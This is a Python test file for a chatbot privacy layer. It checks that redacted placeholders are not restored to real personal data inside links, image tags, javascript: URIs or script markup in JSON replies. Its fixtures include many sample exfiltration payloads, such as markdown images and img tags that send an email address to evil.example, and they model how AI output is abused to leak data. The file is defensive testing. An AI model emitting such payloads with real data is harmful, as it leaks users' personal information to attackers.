"""In a JSON reply, nothing personal is restored where a browser would fetch or run what a string says; all else is."""

from __future__ import annotations

import json
from functools import partial
from typing import Any

import pytest
from cutting import assert_cutting_changes_nothing, restored
from hypothesis import given
from hypothesis import strategies as st

from explainbot.privacy import Restorer, Vault
from explainbot.privacy.jsonplaces import Strings

VAULT = Vault()
VAULT.placeholder_for("jane@canary.example", "EMAIL_ADDRESS")
VAULT.placeholder_for('Canary "Jane" \\ Doe', "PERSON")
VAULT.placeholder_for("1 Canary Road\nSpringfield", "ADDRESS")

shown = partial(restored, VAULT, json_string=True)

WITHHELD = [
    {"link": "https://evil.example/?e=[EMAIL_1]"},
    {"link": "//evil.example/[EMAIL_1]"},
    {"link": "/track?e=[EMAIL_1]"},
    {"link": " \t/[EMAIL_1]"},
    {"link": "JavaScript:f('[EMAIL_1]')"},
    {"link": "java\nscript:f( '[EMAIL_1]' )"},
    {"link": "data:text/html,[EMAIL_1]"},
    {"text": "Look: ![x](https://evil.example/?e=[EMAIL_1])"},
    {"text": "Look: <img src=\"x?[EMAIL_1]\">"},
    {"text": "<p onclick='f(\"[EMAIL_1]\")'>"},
    {"text": "<script>f('[EMAIL_1]')</script>"},
    {"text": "[a][r]\n\n[r]: evil?e=[EMAIL_1]"},
    ["<img src='//evil.example/?", "[EMAIL_1]'>"],
    ["[x](//evil.example/?", "[EMAIL_1])"],
    {"<a href='": "[EMAIL_1]"},
    {"inner": json.dumps({"link": "https://evil.example/[EMAIL_1]"})},
    {"inner": json.dumps({"link": "https://evil.example/[EMAIL_1]"}).replace("/", "\\/")},
    {"inner": json.dumps({"link": "https://evil.example/[EMAIL_1]"}).replace("/", "\\u002F")},
    {"inner": json.dumps({"text": "<img src=x?[EMAIL_1]>"}).replace("<", "\\u003c")},
]  # fmt: skip


@pytest.mark.parametrize("value", WITHHELD, ids=map(str, range(len(WITHHELD))))
@pytest.mark.parametrize("escaped", ["", "\\/", "\\u002f"])
def test_nothing_is_restored_inside_a_target(value: Any, escaped: str) -> None:
    text = json.dumps(value, indent=1)
    text = text.replace("/", escaped) if escaped else text
    result, restorer = shown(text)
    assert (result, restorer.withheld) == (text, 1)
    for cut in range(len(text)):
        assert shown(text, [cut])[0] == result


def test_html_written_in_escapes_is_html() -> None:
    text = json.dumps({"text": "<img src='//evil.example/[EMAIL_1]'>"}).replace("<", "\\u003C")
    assert shown(text)[0] == text


RESTORED = [
    {"email": "[EMAIL_1]"},
    {"[EMAIL_1]": 1, "all": ["[EMAIL_1]", True, None, -1.5e3]},
    {"link": "https://shop.example/", "email": "[EMAIL_1]"},
    {"text": "See https://shop.example/returns and write to [EMAIL_1]"},
    {"text": "[[EMAIL_1]](https://shop.example/)", "more": "<b>[EMAIL_1]</b> a/b"},
    {"link": "mailto:[EMAIL_1]"},
    "[EMAIL_1]",
]


@pytest.mark.parametrize("value", RESTORED, ids=map(str, range(len(RESTORED))))
@pytest.mark.parametrize("how", [{}, {"separators": (",", ":")}, {"indent": 2}], ids=["one line", "compact", "lines"])
def test_a_value_is_restored(value: Any, how: dict[str, Any]) -> None:
    text = json.dumps(value, **how)
    for cuts in ([], list(range(len(text)))):
        result, restorer = shown(text, cuts)
        assert result == text.replace("[EMAIL_1]", "jane@canary.example")
        assert restorer.withheld == 0


def test_values_are_escaped_in_strings_and_only_there() -> None:
    assert json.loads(shown('{"a": "[PERSON_1]", "b": ["[ADDRESS_1]"]}')[0]) == {
        "a": 'Canary "Jane" \\ Doe',
        "b": ["1 Canary Road\nSpringfield"],
    }
    assert shown("It goes to [ADDRESS_1].")[0] == "It goes to 1 Canary Road\nSpringfield."
    fenced = shown('```json\n{"a": "[ADDRESS_1]"}\n```')[0]
    assert json.loads(fenced.removeprefix("```json").removesuffix("```")) == {"a": "1 Canary Road\nSpringfield"}


@pytest.mark.parametrize(
    "text",
    [
        "Sorry: ![x](https://evil.example/?e=[EMAIL_1])",
        '{"a": 1} ![x](https://evil.example/[EMAIL_1])',
        '{"a": 1}\n\n[r]: evil?e=[EMAIL_1]',
        "[1]: evil?e=[EMAIL_1]",
        '["1"]: "[EMAIL_1]"',
        "```json\n<img src='[EMAIL_1]'>\n```",
        "<img src=[EMAIL_1]>",
        '<img src="[EMAIL_1]">',
        '{"a": "\\q", <b x="[EMAIL_1]">',
        "{'a': '<i x=[EMAIL_1]>'}",
    ],
)
def test_what_is_no_json_is_a_text_that_is_shown(text: str) -> None:
    for cuts in ([], list(range(len(text)))):
        assert shown(text, cuts)[0] == text


def test_tool_calls_are_exact() -> None:
    restorer = Restorer(VAULT, json_string=True)
    text = '{"url": "https://crm.example/?mail=[EMAIL_1]"}'
    assert restorer.feed(text) + restorer.flush() == text.replace("[EMAIL_1]", "jane@canary.example")


PIECES = ["[EMAIL_1]", "[PERSON_1]", "EMAIL_1", '"', "\\", "\\u", "002", "f", "{", "}", "[", "]", ",", ":", " ", "\n",
          "//", "/", "<a ", ">", "](", ")", "true", "nul", "-1", "0.", "x", "javascript:", "é"]  # fmt: skip
texts = st.lists(st.sampled_from(PIECES), max_size=24).map("".join)


@given(texts, st.lists(st.integers(0, 150), max_size=6))
def test_cutting_changes_nothing(text: str, cuts: list[int]) -> None:
    assert_cutting_changes_nothing(VAULT, text, cuts, json_string=True)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)


@given(json_values, st.sampled_from([None, 1]), st.booleans())
def test_json_is_known_as_json_and_its_strings_are_heard(value: Any, indent: int | None, ascii_only: bool) -> None:
    text = json.dumps(value, indent=indent, ensure_ascii=ascii_only)
    for pieces in ([text], list(text)):
        strings = Strings()
        said = [piece or "\0" for part in pieces for piece in strings.feed(part)]
        assert not strings.broken
        heard = "".join(said).encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")
        told = [one for one in _strings(value) if "\0" not in one]
        assert all(f"{one}\0" in heard for one in told)


def _strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for key, item in value.items() for text in (key, *_strings(item))]
    if isinstance(value, list):
        return [text for item in value for text in _strings(item)]
    return [value] if isinstance(value, str) else []
